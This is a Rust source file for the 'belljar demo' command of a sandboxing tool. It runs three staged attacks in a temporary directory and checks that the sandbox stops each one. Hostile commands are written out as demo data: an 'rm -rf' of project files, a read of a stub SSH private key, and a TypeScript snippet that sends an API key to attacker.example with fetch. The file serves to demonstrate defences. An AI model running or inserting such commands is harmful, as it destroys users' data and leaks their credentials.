//! `belljar demo`: shows three attacks on a user, and how a box stops each of them.
//!
//! The demonstration runs the same commands that a user would type, with this binary, in a temporary
//! directory with a home, a state directory and a ledger of its own. It checks after each attack that the
//! attack had no effect, and fails if one had.

use std::ffi::OsString;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::{Context as _, Result, bail, ensure};
use belljar_engine::error::{EngineError, ErrorKind};

use crate::cli::setup::DemoArgs;
use crate::exit::Outcome;
use crate::print;

/// The key of the demonstration. It is not a key of any service.
const KEY: &str = "sk-demo-7f3a91c2b4d8e6f05a1c";

const CONFIG: &str = r#"[template.demo]
net = "restricted"
allow = ["GET api.example.com"]
secrets = ["demo"]

[secret.demo]
hosts = ["api.example.com"]
env = "DEMO_API_KEY"

[code]
template = "demo"
"#;

/// A program that tries to send the key to a stranger, directly and by an allowed host.
const STEAL: &str = r#"const key = process.env.DEMO_API_KEY;
for (const host of ["attacker.example", "api.example.com"]) {
  try {
    await fetch(`https://${host}/?key=${key}`);
    console.log(`sent to ${host}`);
  } catch (error) {
    console.log(error.message);
  }
}
"#;

/// Runs `belljar demo`.
pub(crate) fn run(args: &DemoArgs) -> Outcome {
    let scene = Scene::new().map_err(failed)?;
    let played = scene.play();
    match (&played, args.keep) {
        (Ok(()), true) => {
            print::note(&format!("the files are in {}", scene.dir.display()));
        }
        (Ok(()), false) => {
            fs::remove_dir_all(&scene.dir)
                .with_context(|| format!("cannot remove {}", scene.dir.display()))
                .map_err(failed)?;
        }
        (Err(_), _) => print::note(&format!("the files are kept in {}", scene.dir.display())),
    }
    played.map(|()| 0).map_err(failed)
}

fn failed(error: anyhow::Error) -> EngineError {
    EngineError::new(ErrorKind::Broken, error.context("the demonstration failed"))
}

/// The directories of the demonstration.
struct Scene {
    dir: PathBuf,
    project: PathBuf,
    home: PathBuf,
    state: PathBuf,
}

impl Scene {
    fn new() -> Result<Self> {
        let dir = temporary_directory()?;
        let in_dir = |name: &str| dir.join(name);
        let (project, home, state) = (in_dir("shop"), in_dir("home"), in_dir("state"));
        let write = |file: PathBuf, text: &str| -> Result<()> {
            fs::create_dir_all(file.parent().unwrap_or(&dir))?;
            fs::write(&file, text).with_context(|| format!("cannot write {}", file.display()))
        };
        write(project.join("src/main.py"), "print(\"hello\")\n")?;
        write(project.join("notes.txt"), "the only copy\n")?;
        write(project.join("steal.ts"), STEAL)?;
        write(home.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n")?;
        write(home.join(".config/belljar/belljar.toml"), CONFIG)?;
        Ok(Self { dir, project, home, state })
    }

    fn play(&self) -> Result<()> {
        self.deletion()?;
        self.theft()?;
        self.exfiltration()?;
        self.record()
    }

    fn deletion(&self) -> Result<()> {
        heading("1. A program that deletes your files")?;
        self.belljar("run -- sh -c 'rm -rf src notes.txt; ls'", None)?;
        for file in ["src/main.py", "notes.txt"] {
            ensure!(self.project.join(file).exists(), "the program deleted {file}");
        }
        say("The program deleted its view of the directory. Your files are still there:")?;
        say(&format!("  {}", self.listing()?))?;
        let diff = self.belljar("diff --stat", None)?;
        ensure!(
            diff.contains("notes.txt"),
            "the deletion of notes.txt is not held back for review"
        );
        self.belljar("discard --yes", None)?;
        Ok(())
    }

    fn theft(&self) -> Result<()> {
        heading("2. A program that steals your keys")?;
        self.belljar("secret set demo", Some(KEY))?;
        let command =
            "run --template demo -- sh -c 'cat ~/.ssh/id_ed25519; echo key: $DEMO_API_KEY'";
        let seen = self.belljar(command, None)?;
        ensure!(!seen.contains("OPENSSH"), "the program read the SSH key");
        ensure!(!seen.contains(KEY), "the program saw the key");
        ensure!(seen.contains("key: bj_"), "the program has no placeholder");
        say(
            "Your home directory is not in the box. The key is a placeholder, which the broker replaces in",
        )?;
        say("requests to api.example.com only.")
    }

    fn exfiltration(&self) -> Result<()> {
        heading("3. A program that sends the key to a stranger")?;
        say("$ cat steal.ts")?;
        print::out(STEAL)?;
        let seen = self.belljar("code steal.ts", None)?;
        ensure!(!seen.contains("sent to"), "the program sent the key");
        ensure!(seen.contains("no rule allows it"), "the request was not refused by a rule");
        say(
            "No rule names attacker.example. To api.example.com, the placeholder may be in a header only.",
        )
    }

    fn record(&self) -> Result<()> {
        heading("4. The record")?;
        let log = self.belljar("net log", None)?;
        ensure!(log.contains("ALARM"), "the ledger has no alarm");
        let verified = self.belljar("ledger verify", None)?;
        ensure!(verified.starts_with("valid"), "the ledger is not valid");
        self.search_for_key()?;
        say(
            "All of this is in a signed ledger, which shows later changes. It does not contain the key.",
        )?;
        say("")?;
        say("next: `belljar init` in your own project")
    }

    /// Prints a command line, runs it, and prints its output. Returns the output.
    fn belljar(&self, words: &str, input: Option<&str>) -> Result<String> {
        say(&format!("$ belljar {words}"))?;
        let args = split(words)?;
        let mut command = Command::new("/proc/self/exe");
        command
            .args(&args)
            .current_dir(&self.project)
            .env_clear()
            .envs(
                ["PATH", "TERM", "LANG"]
                    .iter()
                    .filter_map(|name| Some((name, std::env::var_os(name)?))),
            )
            .env("HOME", &self.home)
            .env("BELLJAR_HOME", &self.state)
            .stdin(if input.is_some() { Stdio::piped() } else { Stdio::null() })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = command.spawn().context("cannot start this program again")?;
        if let (Some(text), Some(mut stdin)) = (input, child.stdin.take()) {
            std::io::Write::write_all(&mut stdin, text.as_bytes())?;
        }
        let output = child.wait_with_output()?;
        let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&output.stderr));
        print::out(&text)?;
        // The program in the box may fail; Belljar itself may not.
        if matches!(output.status.code(), None | Some(2 | 125)) {
            bail!("`belljar {words}` failed; `belljar doctor` shows what this machine lacks");
        }
        Ok(text)
    }

    fn listing(&self) -> Result<String> {
        let mut names = Vec::new();
        for entry in fs::read_dir(&self.project)? {
            names.push(entry?.file_name().to_string_lossy().into_owned());
        }
        names.sort();
        Ok(names.join("  "))
    }

    /// Fails if a file of the state directory contains the key.
    fn search_for_key(&self) -> Result<()> {
        let mut directories = vec![self.state.clone()];
        while let Some(directory) = directories.pop() {
            for entry in fs::read_dir(&directory)? {
                let (path, kind) =
                    entry.and_then(|entry| Ok((entry.path(), entry.file_type()?)))?;
                if kind.is_dir() {
                    directories.push(path);
                } else if kind.is_file() {
                    ensure!(!contains_key(&path)?, "{} contains the key", path.display());
                }
            }
        }
        Ok(())
    }
}

fn contains_key(file: &Path) -> Result<bool> {
    let bytes = fs::read(file).with_context(|| format!("cannot read {}", file.display()))?;
    Ok(bytes.windows(KEY.len()).any(|window| window == KEY.as_bytes()))
}

/// Splits a command line of this file, in which single quotes enclose one word.
fn split(words: &str) -> Result<Vec<OsString>> {
    let mut args = Vec::new();
    for (position, part) in words.split('\'').enumerate() {
        match position % 2 {
            0 => args.extend(part.split_whitespace().map(OsString::from)),
            _ => args.push(part.into()),
        }
    }
    ensure!(!args.is_empty(), "the command line is empty");
    Ok(args)
}

fn heading(text: &str) -> Result<()> {
    say(&format!("\n== {text}\n"))
}

fn say(text: &str) -> Result<()> {
    print::out(&format!("{text}\n")).context("cannot print")
}

/// Creates a directory that only its owner can read.
fn temporary_directory() -> Result<PathBuf> {
    use std::os::unix::fs::DirBuilderExt as _;
    // A directory of somebody else with this name makes the creation fail.
    let dir = std::env::temp_dir().join(format!("belljar-demo-{}", std::process::id()));
    fs::DirBuilder::new()
        .mode(0o700)
        .create(&dir)
        .with_context(|| format!("cannot create {}", dir.display()))?;
    Ok(dir)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_keeps_a_quoted_part_as_one_word() {
        assert_eq!(split("run -- sh -c 'a; b'").unwrap(), ["run", "--", "sh", "-c", "a; b"]);
        assert_eq!(split("diff --stat").unwrap(), ["diff", "--stat"]);
        assert!(split("").is_err());
    }
}
